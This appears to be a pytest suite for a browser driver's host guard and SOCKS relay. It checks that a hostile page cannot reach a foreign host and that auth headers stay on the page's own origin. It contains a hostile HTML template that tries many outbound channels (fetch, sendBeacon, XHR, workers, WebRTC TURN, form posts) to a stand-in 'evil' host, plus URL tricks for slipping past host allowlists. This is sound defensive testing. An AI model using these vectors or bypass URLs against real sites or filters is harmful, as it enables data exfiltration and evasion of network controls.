"""A hostile page leads a browser elsewhere, in every way a page can; nobody is met there."""

import socket
import struct
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from commdrill.drivers.http.browser import Browser
from commdrill.drivers.network.host_guard import Forbidden, HostGuard
from commdrill.drivers.network.socks_relay import SocksRelay
from commdrill.drivers.network.transport import Address, Transport
from commdrill.drivers.shared import Shared
from commdrill.errors import CannotLook
from commdrill.sighting import Page
from commdrill.testing import LocalWeb, reply
from commdrill.testing.local_web import hang_up, reset
from tests.drivers.network.hostile import FOREIGN, Foreign, guard

HTML = {"Content-Type": "text/html; charset=utf-8"}
pytestmark = pytest.mark.usefixtures("patient_browser", "chromium")


@pytest.fixture(scope="module")
def foreign() -> Iterator[Foreign]:
    with Foreign() as host:
        yield host


@pytest.fixture(autouse=True)
def nobody_meets_it(foreign: Foreign) -> Iterator[None]:
    yield
    assert foreign.contacts == []


@pytest.fixture(scope="module")
def web() -> Iterator[LocalWeb]:
    with LocalWeb({"/favicon.ico": reply(404)}) as local:
        yield local


def built(guarding: HostGuard, shared: Shared | None = None, **settings: Any) -> Browser:
    told = {"settle": "300ms", "timeout": "60s", **settings}
    given = {"folder": Path(), "guard": guarding, "shared": shared}
    return Browser.model_validate(told, context=given)


def looked(browser: Browser) -> Page:
    with browser.open() as look:
        seen = look()
    assert isinstance(seen, Page)
    return seen


Visit = Callable[..., Page]


@pytest.fixture(scope="module")
def visit() -> Iterator[Visit]:
    """Looks with one browser for all tests that have the same guard: starting one takes a second."""
    with Shared() as shared:
        yield lambda url, **settings: looked(built(guard(), shared, url=url, **settings))


# Every way a page can have a browser contact somebody, in one page.
EVERY_WAY = """<!doctype html><title>t</title>
<link rel="dns-prefetch" href="{evil}/dns"><link rel="preconnect" href="{evil}">
<link rel="prefetch" href="{evil}/prefetch"><link rel="preload" as="image" href="{evil}/preload">
<link rel="stylesheet" href="{evil}/style"><link rel="manifest" href="{evil}/manifest">
<script src="{evil}/script"></script><script type="module" src="{evil}/module"></script>
<style>@import url("{evil}/import"); body {{ background: url("{evil}/background") }}
@font-face {{ font-family: x; src: url("{evil}/font") }} p {{ font-family: x }}</style>
<body><p>welcome</p>
<img src="{evil}/image"><img srcset="{evil}/set 2x"><video src="{evil}/video" autoplay></video>
<audio src="{evil}/audio" autoplay></audio><object data="{evil}/object"></object>
<embed src="{evil}/embed"><iframe src="{evil}/frame"></iframe><iframe src="/redirects"></iframe>
<iframe srcdoc="<img src='{evil}/srcdoc'>"></iframe>
<form id="f" action="{evil}/form" method="post" target="g"></form><iframe name="g"></iframe>
<a id="a" href="/away" ping="{evil}/ping" target="h">x</a><iframe name="h"></iframe>
<script>
const tries = [
  () => fetch("{evil}/fetch", {{mode: "no-cors"}}),
  () => fetch("/redirects"),
  () => navigator.sendBeacon("{evil}/beacon", "x"),
  () => new WebSocket("{socket}/socket"),
  () => new EventSource("{evil}/events"),
  () => {{ const x = new XMLHttpRequest(); x.open("POST", "{evil}/xhr"); x.send("x"); }},
  () => new Worker(URL.createObjectURL(new Blob(['fetch("{evil}/worker", {{mode: "no-cors"}})']))),
  () => new SharedWorker(URL.createObjectURL(new Blob(['importScripts("{evil}/shared")']))),
  () => window.open("{evil}/popup"),
  () => document.getElementById("f").submit(),
  () => document.getElementById("a").click(),
  () => import("{evil}/dynamic.js"),
  () => new WebTransport("https://{host}:{port}/transport"),
  () => {{
    const peer = new RTCPeerConnection({{iceServers: [
      {{urls: "stun:{host}:{port}"}},
      {{urls: "turn:{host}:{port}?transport=udp", username: "u", credential: "c"}},
      {{urls: "turn:{host}:{port}?transport=tcp", username: "u", credential: "c"}}]}});
    peer.createDataChannel("x");
    peer.createOffer().then(offer => peer.setLocalDescription(offer));
  }},
  () => navigator.serviceWorker.register("/worker.js"),
];
for (const one of tries) try {{ one()?.catch?.(() => 0); }} catch {{}}
</script>"""


def test_whatever_a_page_asks_for_only_the_guards_hosts_are_contacted(
    web: LocalWeb, foreign: Foreign
) -> None:
    host, port = FOREIGN, foreign.port
    evil, sockets = f"http://{host}:{port}", f"ws://{host}:{port}"
    page = EVERY_WAY.format(evil=evil, socket=sockets, host=host, port=port)
    web.routes["/"] = reply(200, page.encode(), HTML)
    web.routes["/redirects"] = reply(302, headers={"Location": f"{evil}/redirected"})
    web.routes["/away"] = reply(200, b"away", HTML)
    script = f'self.addEventListener("install", () => fetch("{evil}/installed"))'.encode()
    web.routes["/worker.js"] = reply(200, script, {"Content-Type": "text/javascript"})
    guarding = guard().of("channel page")
    seen = looked(built(guarding, url=web.url(), settle="3s"))
    assert "welcome" in seen.text
    why = f"the guard's hosts do not allow '{FOREIGN}': nobody was asked there"
    assert guarding.refusals.drain() == (("channel page", why, "guard-refused"),)
    assert any(asked.path == "/redirects" for asked in web.asked)


@pytest.mark.parametrize(
    "body",
    [
        "<meta http-equiv=refresh content='0; url={evil}'>",
        "<script>location = '{evil}'</script>",
        "<form method=post action='{evil}'></form><script>document.forms[0].submit()</script>",
        "<script>location = '//{host}:{port}/'</script>",
        "<script>location = 'http://2130706434:{port}/'</script>",
        "<script>location = 'http://127.0.0.1@{host}:{port}/'</script>",
        "<script>location = 'http://[::ffff:127.0.0.2]:{port}/'</script>",
    ],
)
def test_a_page_that_moves_out_of_the_guard_says_nothing_about_the_plan(
    visit: Visit, web: LocalWeb, foreign: Foreign, body: str
) -> None:
    evil = f"http://{FOREIGN}:{foreign.port}/"
    text = body.format(evil=evil, host=FOREIGN, port=foreign.port)
    web.routes["/"] = reply(200, f"<!doctype html><body>welcome{text}".encode(), HTML)
    with pytest.raises(Forbidden, match="the guard's hosts do not allow"):
        visit(web.url(), settle="1s")


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_out_of_the_guard_says_nothing_about_the_plan(
    visit: Visit, web: LocalWeb, foreign: Foreign, status: int
) -> None:
    web.routes["/"] = reply(status, headers={"Location": f"http://{FOREIGN}:{foreign.port}/"})
    with pytest.raises(Forbidden, match=f"do not allow '{FOREIGN}'"):
        visit(web.url())


def test_connect_to_is_asked_for_and_so_is_the_name_that_is_met_there(
    web: LocalWeb, foreign: Foreign
) -> None:
    web.routes["/"] = reply(200, b"<!doctype html>welcome", HTML)
    shop, here = "http://shop.dev.example/", f"127.0.0.1:{web.port}"
    assert looked(built(guard("*.dev.example"), url=shop, connect_to=here)).text == "welcome"
    with pytest.raises(Forbidden, match=r"do not allow 'shop\.dev\.example'"):
        looked(built(guard(), url=shop, connect_to=here))
    far = f"{FOREIGN}:{foreign.port}"
    with pytest.raises(Forbidden, match=f"do not allow '{FOREIGN}'"):
        looked(built(guard("*.dev.example"), url=shop, connect_to=far))


def test_headers_go_to_the_pages_own_origin_alone(visit: Visit, web: LocalWeb) -> None:
    with LocalWeb({"/image": reply(200), "/landed": reply(200, b"landed", HTML)}) as other:
        body = f"<img src='{other.url('/image')}'><img src='/own'><img src='/leads-on'>"
        web.routes["/"] = reply(200, f"<!doctype html>{body}".encode(), HTML)
        web.routes["/own"] = reply(200)
        web.routes["/leads-on"] = reply(302, headers={"Location": other.url("/image")})
        web.routes["/leads-away"] = reply(302, headers={"Location": other.url("/landed")})
        headers = {"Authorization": "Bearer hush", "X-Api-Key": "hush"}
        visit(web.url(), headers=headers)
        assert visit(web.url("/leads-away"), headers=headers).text == "landed"
        assert len(other.asked) >= 3
        assert [asked for asked in other.asked if "hush" in repr(asked.headers)] == []
    own = [asked for asked in web.asked if asked.path in ("/own", "/leads-away")]
    assert {asked.headers.get("x-api-key") for asked in own} == {"hush"}
    assert {asked.headers.get("authorization") for asked in own} == {"Bearer hush"}


def test_a_visitor_of_a_host_that_refuses_resets_or_hangs_up_sees_that(
    visit: Visit, web: LocalWeb
) -> None:
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
        refused = visit(f"http://127.0.0.1:{port}/")
    assert refused.unanswered == (
        f"the browser shows its own error page: 127.0.0.1:{port} refused the connection"
    )
    web.routes["/"] = reset
    assert "ERR_CONNECTION_RESET" in visit(web.url()).unanswered
    web.routes["/"] = hang_up
    assert "ERR_EMPTY_RESPONSE" in visit(web.url()).unanswered


# --- the relay on its own


def relay_to(guarding: HostGuard) -> SocksRelay:
    def dial(address: Address) -> socket.socket:
        line = Transport(timedelta(seconds=5), guard=guarding)
        line.begin()
        return line.dial(address)

    return SocksRelay(dial)


def asked_for(relay: SocksRelay, host: str, port: int, command: int = 1) -> int:
    """What the relay answers to who wants to go there."""
    with socket.create_connection(("127.0.0.1", relay.port), 5) as client:
        client.sendall(b"\x05\x01\x00")
        assert client.recv(2) == b"\x05\x00"
        name = host.encode()
        wanted = bytes((5, command, 0, 3, len(name))) + name + struct.pack("!H", port)
        client.sendall(wanted)
        return client.recv(10)[1]


def test_the_relay_connects_and_does_nothing_else(web: LocalWeb, foreign: Foreign) -> None:
    with relay_to(guard()) as relay:
        assert asked_for(relay, "127.0.0.1", web.port) == 0
        assert asked_for(relay, FOREIGN, foreign.port) == 5
        assert isinstance(relay.troubles[Address(FOREIGN, foreign.port)], CannotLook)
        for bind_or_udp in (2, 3):
            assert asked_for(relay, "127.0.0.1", web.port, bind_or_udp) == 5


def test_the_relay_ends_whatever_goes_on_through_it(web: LocalWeb) -> None:
    relay = relay_to(guard())
    relay.__enter__()
    client = socket.create_connection(("127.0.0.1", relay.port), 5)
    client.sendall(b"\x05\x01\x00")
    client.recv(2)
    client.sendall(b"\x05\x01\x00\x01\x7f\x00\x00\x01" + struct.pack("!H", web.port))
    assert client.recv(10)[1] == 0
    relay.__exit__()
    assert client.recv(1) == b""
    client.close()
    assert web.wait_until_left()
